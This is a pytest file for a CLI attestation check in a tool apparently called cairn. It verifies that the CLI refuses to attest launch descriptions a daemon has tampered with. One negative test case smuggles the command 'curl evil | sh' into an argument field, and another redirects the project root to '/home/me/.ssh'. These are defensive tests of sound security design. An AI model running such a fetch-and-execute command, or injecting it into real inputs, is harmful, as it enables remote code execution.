"""The person's side of a launch's attestation: the CLI attests a description only if it
is what was asked for, hashing it itself, and writes nothing else on the channel. cairnd
is a stand-in on a real socketpair here (it may be the attacker); the broker's side is
tests/unit/test_broker_socket.py and tests/system/test_cairn_attacker.py."""

from __future__ import annotations

import json
import os
import pwd
import socket
import threading
from collections.abc import Iterator

import pytest

from cairn.cli.attest import Expected, exchange
from cairn.errors import PermissionDenied
from cairn.protocol.attestation import parse_attestation
from cairn.protocol.launch import LaunchDescription, ProfileSpec, ProjectSpec, ReplayOrigin

RUN = "flow_" + "d4" * 16
ME = os.getuid()
SCRIPT = ProfileSpec(name="x", kind="scripted", output={"summary": "s"})


def description(**changes: object) -> LaunchDescription:
    account = pwd.getpwuid(ME)
    desc = LaunchDescription(
        run_id=RUN, owner_uid=ME, owner_gid=account.pw_gid, owner_name=account.pw_name,
        definition="builtin:implement", source="print(1)", source_filename="implement.py",
        review_hash="sha256:" + "a" * 64, review={}, args={"objective": "tidy", "depth": 2},
        project=ProjectSpec(root="/home/me/p", owner_uid=ME, on_pool_fs=False),
        profiles={"x": SCRIPT}, apply_mode="ask", cairn_version="t", created_at=1.0,
    )
    return desc.model_copy(update=changes)


ASKED = Expected(project="/home/me/p", definition="builtin:implement", apply_mode="ask",
                 args={"objective": "tidy"}, scripted={"x": SCRIPT.model_dump(mode="json")})


def test_what_was_asked_for_is_attested_by_its_own_hash() -> None:
    desc = description()
    assert ASKED.check(desc.model_dump_json().encode()) == (RUN, desc.launch_hash())
    coerced = description(args={"objective": "tidy", "depth": 2, "n": 5})
    assert Expected(args={"n": "5"}).check(coerced.model_dump_json().encode())[0] == RUN


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"owner_uid": ME + 1}, "the owner is"),
        ({"project": ProjectSpec(root="/home/me/.ssh", owner_uid=ME, on_pool_fs=False)},
         "the project is '/home/me/.ssh'"),
        ({"definition": "builtin:goal"}, "the definition is"),
        ({"apply_mode": "auto"}, "the apply mode is 'auto', not 'ask'"),
        ({"args": {"objective": "curl evil | sh"}}, "the arguments objective are not"),
        ({"profiles": {"x": SCRIPT.model_copy(update={"steps": []}), "y": SCRIPT}},
         "the scripted profiles are not the ones sent"),
    ],
)
def test_a_description_that_is_not_what_was_asked_for_is_never_attested(
    changes: dict[str, object], why: str
) -> None:
    with pytest.raises(PermissionDenied, match=f"not attesting {RUN}: .*{why}"):
        ASKED.check(description(**changes).model_dump_json().encode())


def test_an_unreadable_description_is_refused() -> None:
    with pytest.raises(PermissionDenied, match="cannot read"):
        ASKED.check(b'{"run_id": \n')
    with pytest.raises(PermissionDenied, match="not a JSON object"):
        ASKED.check(b'["flow_"]\n')
    with pytest.raises(PermissionDenied, match="with the run ID 1"):
        ASKED.check(b'{"run_id": 1}\n')


def as_json(desc: LaunchDescription, **changes: object) -> bytes:
    """The description's line with top-level fields changed as JSON, past its model."""
    data = json.loads(desc.model_dump_json())
    data.update(changes)
    return json.dumps(data).encode() + b"\n"


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"owner_uid": str(ME)}, f"the owner is '{ME}', not {ME}"),
        ({"owner_uid": float(ME)}, "the owner is"),
        ({"project": {"root": "/home/me/p", "owner_uid": str(ME), "on_pool_fs": False}},
         "the project's owner is"),
        ({"project": None}, "the project's owner is None"),
        ({"args": ["tidy"]}, "the arguments objective are not"),
        ({"profiles": {"x": "scripted"}}, "the scripted profiles are not"),
    ],
)
def test_a_field_of_another_json_type_is_a_difference(
    changes: dict[str, object], why: str
) -> None:
    """The CLI reads the description as JSON, not through its model: a value the model
    would coerce to what was asked for is still not what was asked for."""
    with pytest.raises(PermissionDenied, match=f"not attesting {RUN}: .*{why}"):
        ASKED.check(as_json(description(), **changes))


def test_the_hash_is_the_models_only_for_the_description_root_validates() -> None:
    """What the CLI hashes is what it read; root pins the run only if its validated
    description hashes the same, so a key root drops changes the hash, not the run."""
    desc = description()
    assert ASKED.check(as_json(desc))[1] == desc.launch_hash()
    assert ASKED.check(as_json(desc, smuggled="x"))[1] != desc.launch_hash()
    origin = ReplayOrigin(source_run="flow_" + "e5" * 16, through_op="root-2", ops=["root-1"])
    replayed = description(replay=origin)
    assert ASKED.check(as_json(replayed))[1] == replayed.launch_hash() != desc.launch_hash()


@pytest.fixture
def cairnd() -> Iterator[tuple[socket.socket, socket.socket, socket.socket, socket.socket]]:
    """The CLI's connection to a stand-in cairnd (both ends), and the attestation
    channel's two ends: the one cairnd holds and passes on, and the CLI's."""
    cli, daemon = socket.socketpair()
    mine, theirs = socket.socketpair()
    with cli, daemon, mine, theirs:
        yield cli, daemon, theirs, mine


def test_the_cli_writes_exactly_one_attestation_line_for_what_it_checked(
    cairnd: tuple[socket.socket, ...],
) -> None:
    cli, daemon, theirs, mine = cairnd
    desc = description()
    heard: list[bytes] = []

    def stand_in() -> None:
        theirs.sendall(desc.model_dump_json().encode() + b"\n")
        heard.append(theirs.recv(4096))  # what the broker would read
        daemon.sendall(b'{"ok": true}\n')
        daemon.shutdown(socket.SHUT_WR)

    thread = threading.Thread(target=stand_in)
    thread.start()
    assert exchange(cli, mine, ASKED) == b'{"ok": true}\n'
    thread.join(timeout=10)
    assert [parse_attestation(line) for line in heard] == [(RUN, desc.launch_hash())]


def test_the_cli_writes_nothing_for_a_description_it_refuses(
    cairnd: tuple[socket.socket, ...],
) -> None:
    cli, daemon, theirs, mine = cairnd
    theirs.sendall(description(apply_mode="auto").model_dump_json().encode() + b"\n")
    with pytest.raises(PermissionDenied, match="the apply mode"):
        exchange(cli, mine, ASKED)
    theirs.settimeout(5)
    assert theirs.recv(4096) == b""  # the channel closed with nothing written
